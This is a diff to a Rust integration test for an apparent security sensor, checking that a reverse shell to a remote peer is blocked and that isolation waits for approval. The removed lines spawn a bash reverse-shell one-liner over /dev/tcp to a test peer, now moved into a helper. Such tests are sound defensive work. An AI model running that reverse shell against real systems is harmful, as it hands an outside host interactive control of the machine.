@@ -21,7 +21,7 @@ use std::{
 use serde_json::Value;
 use vigil_tests::{
     Sensor, kernel_tests_enabled,
-    net::{Cgroup, Held, PROBE, Peer, probe, reaches},
+    net::{Cgroup, Held, PROBE, Peer, probe, reaches, reverse_shell},
 };
 
 /// Runs an order and returns the id of the action it journaled.
@@ -435,19 +435,7 @@ fn a_reverse_shell_to_a_remote_peer_gets_its_destination_blocked_and_isolation_w
     // The shipped policy, as a user runs it: contain, isolation only with approval.
     let sensor = Sensor::start_containing(&["--cgroup", cg.arg()]).expect("sensor");
 
-    let shell = Command::new("sh")
-        .arg("-c")
-        .arg(format!(
-            "echo $$ > {}/cgroup.procs && exec bash -c 'bash -i >& /dev/tcp/{}/{c2} 0>&1'",
-            cg.arg(),
-            peer.addr
-        ))
-        .stdin(Stdio::null())
-        .stdout(Stdio::null())
-        .stderr(Stdio::null())
-        .spawn()
-        .expect("spawn the reverse shell");
-    let status = shell.wait_with_output().expect("wait").status;
+    let status = reverse_shell(&cg, &peer.addr, c2);
     let deadline = Instant::now() + Duration::from_secs(15);
     let block = loop {
         let all = journal(&sensor);
